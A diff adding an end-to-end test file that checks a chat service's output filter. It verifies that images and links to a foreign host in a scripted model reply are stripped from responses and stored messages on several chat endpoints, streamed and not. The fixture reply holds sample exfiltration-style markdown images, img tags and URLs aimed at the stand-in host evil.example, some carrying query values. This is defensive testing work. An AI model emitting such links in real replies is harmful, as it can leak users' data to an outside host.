@@ -1,0 +1,76 @@
+"""The output filter over HTTP: a provider that answers with images and links to another host, in
+every way of writing them the issue found passing (and more), streamed in pieces cut anywhere,
+through /api/v1/chat, /api/v1/chat/stream and /v1/chat/completions (streamed and not). The foreign
+host never comes back to the client and never reaches the stored messages; the prose around it
+does, and so does the fleet's own document id."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from e2e_support import auth, events
+
+pytestmark = pytest.mark.e2e
+
+FOREIGN = "evil.example"
+DOCUMENT_ID = "doc_e4111111111111111aaaaaaaaaaaaaaa"  # a Luhn-valid digit run inside an id of ours
+REPLY = (
+    "Here is the logo: ![logo](https://evil.example/p.png?d=20261130) and the form: [click](https://evil.example/c?q=12345678). "
+    "The team page is [here](https://evil.example/team). "
+    '<img src="https://evil.example/i.png?d=1" alt="x"> <img src="&#47;&#47;evil.example/e.png"> '
+    "![chart][ref] and <https://evil.example/?q=20261130> or https://evil.example/b?q=4242 too.\n\n"
+    "[ref]: https://evil.example/chart.png?d=1\n\n"
+    f"Your document {DOCUMENT_ID} is indexed. Thank you for asking."
+)
+
+
+def _stored(http, user, conversation_id: str) -> str:
+    reply = http.get(f"/api/v1/conversations/{conversation_id}/messages", headers=auth(user))
+    assert reply.status_code == 200, reply.text
+    return json.dumps(reply.json()["messages"])
+
+
+def _check(text: str) -> None:
+    assert FOREIGN not in text, text
+    assert "Here is the logo:" in text and "Thank you for asking." in text and DOCUMENT_ID in text, text
+    assert "[image removed: logo]" in text and "click [link removed]" in text, text
+
+
+@pytest.fixture
+def scripted(fleet):
+    def play(piece: int) -> None:
+        fleet.upstream.control(script=REPLY, script_piece=piece)
+
+    yield play
+    fleet.upstream.control(script="", script_piece=3)
+
+
+@pytest.mark.parametrize("piece", [1, 4, 9])
+def test_foreign_images_and_links_never_reach_the_client_or_the_store(http, alice, scripted, piece):
+    scripted(piece)
+    body = {"message": "Show me the logo and the form, please.", "model": "fake:fake-model", "use_rag": False}
+
+    reply = http.post("/api/v1/chat", headers=auth(alice), json=body)
+    assert reply.status_code == 200, reply.text
+    _check(reply.json()["content"])
+    _check(_stored(http, alice, reply.json()["conversation_id"]))
+
+    with http.stream("POST", "/api/v1/chat/stream", headers=auth(alice), json=body) as streamed:
+        assert streamed.status_code == 200
+        seen = list(events(streamed.iter_lines()))
+    assert seen[-1][0] == "complete", seen[-1]
+    _check("".join(data["token"] for name, data in seen if name == "token"))
+    conversation_id = next(data for name, data in seen if name == "start")["conversation_id"]
+    _check(_stored(http, alice, conversation_id))
+
+    request = {"model": "fake:fake-model", "messages": [{"role": "user", "content": body["message"]}]}
+    reply = http.post("/v1/chat/completions", headers=auth(alice), json=request)
+    assert reply.status_code == 200, reply.text
+    _check(reply.json()["choices"][0]["message"]["content"])
+
+    with http.stream("POST", "/v1/chat/completions", headers=auth(alice), json={**request, "stream": True}) as streamed:
+        assert streamed.status_code == 200
+        chunks = [json.loads(line[6:]) for line in streamed.iter_lines() if line.startswith("data: ") and line != "data: [DONE]"]
+    _check("".join(c["choices"][0]["delta"].get("content") or "" for c in chunks if c.get("choices")))
